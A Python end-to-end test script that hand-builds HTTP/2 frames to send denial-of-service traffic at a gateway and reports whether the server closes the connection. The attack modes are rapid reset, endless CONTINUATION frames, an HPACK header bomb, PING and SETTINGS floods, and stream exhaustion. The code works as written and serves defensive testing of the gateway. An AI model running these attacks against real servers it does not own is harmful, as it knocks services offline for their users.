#!/usr/bin/env python3
"""h2_attack.py: hostile HTTP/2 clients against the gateway, frames written
by hand (RFC 9113 framing, RFC 7541 literals), for tests/e2e/h2.sh.

    h2_attack.py MODE HOST PORT [--tls]

MODE: rapid-reset (HEADERS then RST_STREAM, thousands of times; few-resets:
100 times, under the limit),
continuation (one header block in endless CONTINUATION frames),
hpack-bomb (one big header in the dynamic table, referenced again and again),
ping-flood (PING frames, never reading), settings-flood (SETTINGS frames,
never reading), garbage (bytes that are no preface), bad-frame (preface, then
a frame of an unknown size), streams (101 streams open at once: the 101st is
refused), ok (one good GET: the control), wait-goaway (an idle client that
waits 15 s for the server to go away).

Prints one line: "closed goaway=<code>" (the server sent GOAWAY with that
error code, then closed), "closed" (closed without a GOAWAY we could read),
"open" (still open after the attack, within 5 s), or for streams/ok
"refused=<n> answered=<n>". Exit 0 always; h2.sh judges the line.
"""
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, CONT = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid) + payload


def hint(v, prefix_bits, first=0):
    """An HPACK integer with the given prefix size (RFC 7541 5.1)."""
    top = (1 << prefix_bits) - 1
    if v < top:
        return bytes([first | v])
    out = [first | top]
    v -= top
    while v >= 128:
        out.append((v & 127) | 128)
        v >>= 7
    out.append(v)
    return bytes(out)


def lit(name, value, index=False):
    """Literal header field, new name; with incremental indexing or not."""
    n, v = name.encode(), value.encode()
    head = b"\x40" if index else b"\x00"
    return head + hint(len(n), 7) + n + hint(len(v), 7) + v


def request_block(host, path="/socket.io/?EIO=4&transport=polling", extra=b""):
    return (lit(":method", "GET") + lit(":scheme", "http") + lit(":path", path) +
            lit(":authority", host) + extra)


def connect(host, port, tls):
    s = socket.create_connection((host, port), timeout=5)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="localhost")
    return s


def read_frames(s, until, deadline):
    """Read frames until the peer closes or deadline; returns (closed,
    goaway code or None, list of (type, flags, sid, payload))."""
    buf = b""
    frames = []
    code = None
    s.settimeout(0.2)
    while time.time() < deadline:
        try:
            d = s.recv(65536)
        except socket.timeout:
            if until(frames):
                return False, code, frames
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            return True, code, frames
        if not d:
            return True, code, frames
        buf += d
        while len(buf) >= 9:
            n = (buf[0] << 16) | (buf[1] << 8) | buf[2]
            if len(buf) < 9 + n:
                break
            t, fl, sid = buf[3], buf[4], struct.unpack(">I", buf[5:9])[0] & 0x7FFFFFFF
            frames.append((t, fl, sid, buf[9:9 + n]))
            if t == GOAWAY and n >= 8:
                code = struct.unpack(">I", buf[9 + 4:9 + 8])[0]
            buf = buf[9 + n:]
    return False, code, frames


def send_all(s, data):
    try:
        s.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, OSError, socket.timeout):
        return False


def verdict(s, deadline=5.0):
    closed, code, _ = read_frames(s, lambda f: False, time.time() + deadline)
    if closed:
        print("closed" if code is None else "closed goaway=%d" % code)
    else:
        print("open")


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    tls = "--tls" in sys.argv
    s = connect(host, port, tls)
    auth = "%s:%d" % (host, port)
    if mode == "garbage":
        send_all(s, b"\x16\x03\x01garbage that is no HTTP/2 preface at all\r\n\r\n" * 4)
        verdict(s)
        return
    send_all(s, PREFACE + frame(SETTINGS, 0, 0))
    if mode == "ok" or mode == "streams":
        want = 1 if mode == "ok" else 101
        out = b""
        for i in range(want):
            # "ok": a handshake, answered at once; "streams": POSTs whose
            # bodies never come, so that every stream stays open
            flags = END_HEADERS | (END_STREAM if mode == "ok" else 0)
            out += frame(HEADERS, flags, 1 + 2 * i, request_block(auth))
        send_all(s, out)
        done = set()
        refused = set()

        def enough(frames):
            for t, fl, sid, p in frames:
                if t == HEADERS or (t == RST and mode == "ok"):
                    done.add(sid)
                if t == RST:
                    refused.add(sid)
            return len(done) + len(refused) >= want
        closed, code, frames = read_frames(s, enough, time.time() + 5)
        enough(frames)
        print("refused=%d answered=%d" % (len(refused), len(done)))
        return
    if mode in ("rapid-reset", "few-resets"):
        out = b""
        for i in range(5000 if mode == "rapid-reset" else 100):
            sid = 1 + 2 * i
            out += frame(HEADERS, END_HEADERS, sid, request_block(auth))
            out += frame(RST, 0, sid, struct.pack(">I", 8))    # CANCEL
            if len(out) > 65536:
                if not send_all(s, out):
                    break
                out = b""
        send_all(s, out)
    elif mode == "continuation":
        send_all(s, frame(HEADERS, 0, 1, request_block(auth)))
        for i in range(20000):
            if not send_all(s, frame(CONT, 0, 1, lit("x-pad", "y" * 16))):
                break
    elif mode == "hpack-bomb":
        big = lit("x-bomb", "b" * 4000, index=True)     # into the dynamic table
        refs = b"\xbe" * 5000                           # index 62: that entry, 5000 times
        send_all(s, frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(auth, extra=big + refs)))
    elif mode == "ping-flood":
        one = frame(PING, 0, 0, b"12345678")
        for i in range(3000):
            if not send_all(s, one * 1000):
                break
    elif mode == "settings-flood":
        one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
        for i in range(3000):
            if not send_all(s, one * 1000):
                break
    elif mode == "wait-goaway":
        send_all(s, frame(SETTINGS, 0x1, 0))   # ack the server's SETTINGS
        verdict(s, 15.0)
        return
    elif mode == "bad-frame":
        send_all(s, frame(PING, 0, 0, b"toolong-pingpayload"))
    else:
        print("unknown mode " + mode)
        return
    verdict(s)


if __name__ == "__main__":
    main()
